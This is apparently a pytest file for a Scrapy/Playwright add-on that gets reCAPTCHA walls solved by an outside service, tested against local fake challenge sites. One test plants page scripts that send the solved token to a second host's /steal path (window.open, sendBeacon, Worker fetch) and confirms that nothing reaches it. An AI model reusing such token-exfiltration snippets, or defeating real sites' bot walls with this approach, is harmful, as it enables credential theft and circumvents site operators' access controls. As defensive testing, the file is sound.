"""Odd pages, and spiders that do odd things: each crawl ends as over plain HTTP, or as without the add-on."""

from __future__ import annotations

import asyncio

import pytest
from aiohttp import web
from scrapy_playwright.page import PageMethod

from scrapy_omocaptcha.testing import WalledSite
from tests.browser.crawling import BrowserSpider, WithMethods, WithPage, methods
from tests.helpers import sites
from tests.helpers.nightly import nightly

FIELD = "g-recaptcha-response"
GOOGLE = "<script src=https://www.google.com/recaptcha/api.js></script>"
WIDGET = f"<div class=g-recaptcha data-sitekey={sites.KEY}></div>"
CALLBACK = f"<div class=g-recaptcha data-sitekey={sites.KEY} data-callback=passed></div>"
PAGE = "<title>the page</title><p class=item>Lamp</p><a href=/next>next</a>"
SEND = f"""
function send(token) {{
  return fetch("/verify", {{method: "POST", body: new URLSearchParams({{"{FIELD}": token}})}});
}}
"""


class Site(sites.Site):
    """Site whose answers may be awaited."""

    async def _handle(self, request):
        answer = await super()._handle(request)
        return answer if isinstance(answer, web.StreamResponse) else await answer


def challenge(body):
    html = f"<title>Are you a robot?</title><p>Please confirm that you are not a robot.</p>{body}{GOOGLE}"
    return web.Response(text=html, status=403, content_type="text/html")


def scripted(callback):
    return challenge(f"{CALLBACK}<script>{SEND} function passed(token) {{ {callback} }}</script>")


def clear(answer):
    answer.set_cookie("clearance", "yes", path="/")
    return answer


def walled_by(show, verify):
    """Return what a site answers that shows ``show()`` until ``verify()`` has answered a token at /verify."""

    def answer(request, form):
        if request.path == "/verify" and form.get(FIELD):
            return verify()
        return sites.page(PAGE) if sites.cleared(request) else show()

    return answer


# What scripts do in a challenge


@pytest.mark.parametrize(
    "change",
    [
        nightly("history.pushState({}, '', '?verifying')"),
        nightly("location.hash = 'verifying'"),
        "document.body.innerHTML = '<p>Verifying'",
    ],
)
def test_what_a_page_shows_before_its_token_is_answered_is_not_the_answer(browse, service, change):
    looks = asyncio.Event()

    async def verify():
        # Long enough for two looks at the page.
        with pytest.raises(asyncio.TimeoutError):
            await asyncio.wait_for(looks.wait(), 0.5)
        return clear(web.Response(text="ok"))

    def show():
        return scripted(f"{change}; send(token).then(() => location = '/page');")

    with Site(walled_by(show, verify)) as site:
        crawled = browse(BrowserSpider, urls=[f"{site.origin}/page"])
    assert [page.css(".item::text").get() for page in crawled.pages] == ["Lamp"]
    assert len(service.jobs) == crawled.count("tokens/accepted") == 1


@pytest.mark.parametrize(
    "script",
    [
        nightly("window.open(address)"),
        nightly("navigator.sendBeacon(address)"),
        "new Worker(URL.createObjectURL(new Blob([worker])))",
    ],
)
def test_no_other_site_gets_the_token_by_whatever_way_it_is_sent(browse, service, script):
    stolen = []

    def answer(request, form):
        if request.path == "/steal":
            stolen.append(request.query_string)
            return sites.page("Many thanks")
        address = f"var address = 'http://127.0.0.222:{site.port}/steal?' + token"
        return scripted(f"{address}, worker = `fetch('${{address}}')`; {script};")

    site = Site(answer)
    site.hosts = (*site.hosts, "127.0.0.222")
    with site:
        crawled = browse(BrowserSpider, urls=[f"{site.origin}/page"])
    assert [error.reason for error in crawled.failures] == ["foreign_form"]
    assert len(service.jobs) == 1
    assert stolen == []


# How forms are sent


FORM = "<form method=post action=/verify>{}<button>Go on</button></form>"


@pytest.mark.parametrize(
    "body",
    [
        FORM.format(f"<input type=checkbox name=human required>{WIDGET}"),
        f"<form action=/login><input name=user>{WIDGET}<button>Log in</button></form>" + FORM.format(WIDGET),
    ],
    ids=["that a visitor would have to fill in", "beside another"],
)
def test_the_form_of_a_wall_is_sent_as_it_is(browse, service, body):
    with Site(walled_by(lambda: challenge(body), lambda: sites.won("/page"))) as site:
        crawled = browse(BrowserSpider, urls=[f"{site.origin}/page"])
    assert len(crawled.pages) == len(service.jobs) == 1


@pytest.mark.parametrize("fault", ["server_error", nightly("too_many")])
def test_a_token_that_was_answered_by_an_error_is_handed_in_once_more(browse, service, walled, fault):
    site = walled()
    site.fault("/verify", fault)
    crawled = browse(BrowserSpider, urls=[f"{site.url}/page/1"])
    assert len(crawled.pages) == len(service.jobs) == site.accepted == 1
    assert crawled.count("tokens/accepted") == 1


def in_address(request, form):
    if request.query.get(FIELD):
        return clear(sites.page(PAGE))
    return (
        sites.page(PAGE) if sites.cleared(request) else challenge(f"<form action=/page>{WIDGET}<button>Go on</button>")
    )


@pytest.mark.nightly
def test_page_methods_are_called_in_a_page_whose_address_has_the_token(browse, service):
    with Site(in_address) as site:
        crawled = browse(WithMethods, urls=[f"{site.origin}/page"])
    assert [page.meta["playwright_page_methods"][1].result for page in crawled.pages] == ["the page"]
    assert [path.partition("?")[0] for _, path, _, _ in site.requests].count("/page") == 3
    assert len(service.jobs) == 1


def test_a_live_page_has_no_token_in_its_address_nor_in_the_referer_of_what_follows(browse, service):
    class Clicks(WithPage):
        async def page(self, response, asked=None):
            page = response.meta["playwright_page"]
            self.addresses = [page.url]
            async with page.expect_navigation():
                await page.click("a")
            await super().page(response)

    with Site(in_address) as site:
        crawled = browse(Clicks, urls=[f"{site.origin}/page"])
    assert crawled.spider.addresses == [f"{site.origin}/page"]
    assert [headers["Referer"] for _, path, _, headers in site.requests if path == "/next"] == [f"{site.origin}/page"]


# What the spider does


@pytest.mark.nightly
def test_the_page_methods_of_a_post_are_not_called_in_the_page_of_a_get(browse, service):
    seen = []

    async def note(page):
        seen.append(await page.inner_text("b"))

    class Posts(BrowserSpider):
        def request(self, url):
            return super().request(url).replace(method="POST", body=b"a=b")

        def meta_of(self, url):
            return {"playwright_page_methods": [PageMethod(note)]}

    def answer(request, form):
        if request.path == "/verify":
            return sites.won("/page")
        return sites.page(f"{PAGE}<b>{request.method}</b>") if sites.cleared(request) else sites.challenge()

    with Site(answer) as site:
        browse(Posts, urls=[f"{site.origin}/page"])
    assert seen == ["POST"]


@pytest.mark.nightly
def test_page_methods_may_be_an_iterator(browse, service, walled):
    class Spider(BrowserSpider):
        def meta_of(self, url):
            self.methods = methods()
            return {"playwright_page_methods": iter(self.methods)}

    crawled = browse(Spider, urls=[f"{walled().url}/page/1"])
    assert all(method.result for method in crawled.spider.methods)
    assert len(service.jobs) == 1


@pytest.mark.nightly
def test_an_open_page_that_is_never_loaded_is_not_waited_for(browse):
    def answer(request, form):
        return asyncio.Event().wait() if request.path == "/pixel" else sites.page(f"{PAGE}<img src=/pixel>")

    class Spider(BrowserSpider):
        meta = {**WithPage.meta, "playwright_page_goto_kwargs": {"wait_until": "domcontentloaded"}}  # noqa: RUF012

    settings = {"PLAYWRIGHT_DEFAULT_NAVIGATION_TIMEOUT": 2000, "RETRY_ENABLED": False}
    with Site(answer) as site:
        crawled = browse(Spider, settings, urls=[f"{site.origin}/page"])
    assert len(crawled.pages) == 1


@pytest.mark.parametrize(("wall", "jobs"), [("session", 1), ("per_page", 3)])
@pytest.mark.nightly
def test_a_page_that_the_spider_brings_again_and_again_is_used_kept_and_not_watched_any_more(
    browse, service, walled, wall, jobs
):
    used = []

    class Brings(WithPage):
        async def page(self, response, asked=None):
            used.append(response.meta["playwright_page"])
            self.pages.append(response)
            if len(self.pages) < len(addresses):
                request = self.request(addresses[len(self.pages)])
                request.meta["playwright_page"] = used[-1]
                yield request
            else:
                self.listeners = len(used[-1]._impl_obj.listeners("framenavigated"))
                await used[-1].close()

    site = walled(wall)
    addresses = [f"{site.url}/free/1", *(f"{site.url}/page/{number}" for number in (1, 2, 3))]
    crawled = browse(Brings, urls=addresses[:1])
    assert [page.url for page in crawled.pages] == addresses
    assert len(set(map(id, used))) == crawled.stats["playwright/page_count"] == 1
    assert (len(service.jobs), crawled.spider.listeners) == (jobs, 0)


@pytest.mark.nightly
def test_a_request_that_waits_for_the_end_of_the_crawl_holds_no_page(browse, service, tmp_path):
    settings = {
        "OMOCAPTCHA_MAX_JOBS": 1,
        "OMOCAPTCHA_CLOSE_ON_LIMIT": True,
        "JOBDIR": str(tmp_path),
        "PLAYWRIGHT_MAX_PAGES_PER_CONTEXT": 1,
    }
    # Long enough for the other host to be asked.
    service.next_job(seconds=0.7)
    with WalledSite(service, hosts=("127.0.0.2", "127.0.0.3")) as site:
        first, second = (f"http://{host}:{site.port}/page/1" for host in site.hosts)
        crawled = browse(WithPage, settings, urls=[first, second])
    assert (crawled.stats["finish_reason"], len(crawled.pages)) == ("omocaptcha_limit", 1)
    # The other one is written to the disk, for the next run.
    assert (crawled.stats["scheduler/enqueued/disk"], crawled.failures) == (3, [])


class Renders:
    """Downloader middleware nearer to the site than the add-on, which has all requests rendered in open pages."""

    def process_request(self, request):
        request.meta.update(playwright=True, playwright_include_page=True)


def test_a_wall_opens_in_pages_that_a_middleware_nearer_to_the_site_has_rendered(browse, service, walled):
    class Plain(BrowserSpider):
        meta = {"playwright": False}  # noqa: RUF012

    nearer = {Renders: 600, "scrapy_omocaptcha.testing.browser.OfflineGoogle": 1000}
    crawled = browse(Plain, {"DOWNLOADER_MIDDLEWARES": nearer}, urls=[f"{walled().url}/page/1"])
    assert len(crawled.pages) == len(crawled.spider.live) == len(service.jobs) == 1


def test_a_token_that_no_request_was_seen_to_carry_is_not_called_accepted(browse, service):
    def answer(request, form):
        if request.path == "/opaque":
            return clear(web.Response(text="ok"))
        send = 'fetch("/opaque?" + btoa(token)).then(() => location.reload())'
        return sites.page(PAGE) if sites.cleared(request) else scripted(send)

    with Site(answer) as site:
        crawled = browse(BrowserSpider, urls=[f"{site.origin}/page"])
    assert [page.status for page in crawled.pages] == [200]
    assert len(service.jobs) == 1
    assert (crawled.count("tokens/unknown"), crawled.count("tokens/accepted")) == (1, 0)
    assert "omocaptcha" not in crawled.pages[0].flags
    assert any("accepted a token is not known (not_seen)" in line for line in crawled.said())


def test_a_token_that_no_request_was_seen_to_carry_is_accounted_for_where_the_page_then_fails(browse, service):
    shown = []

    def answer(request, form):
        if request.path == "/opaque":
            return clear(web.Response(text="ok"))
        if not sites.cleared(request):
            return scripted('fetch("/opaque?" + btoa(token)).then(() => location.reload())')
        if shown:
            request.transport.abort()
        shown.append(request)
        return sites.page(PAGE)

    with Site(answer) as site:
        crawled = browse(BrowserSpider, {"RETRY_ENABLED": False}, urls=[f"{site.origin}/page"], page_fails=True)
    assert crawled.pages == []
    assert len(crawled.failures) == len(service.jobs) == 1
    assert crawled.count("tokens/unknown") == 1
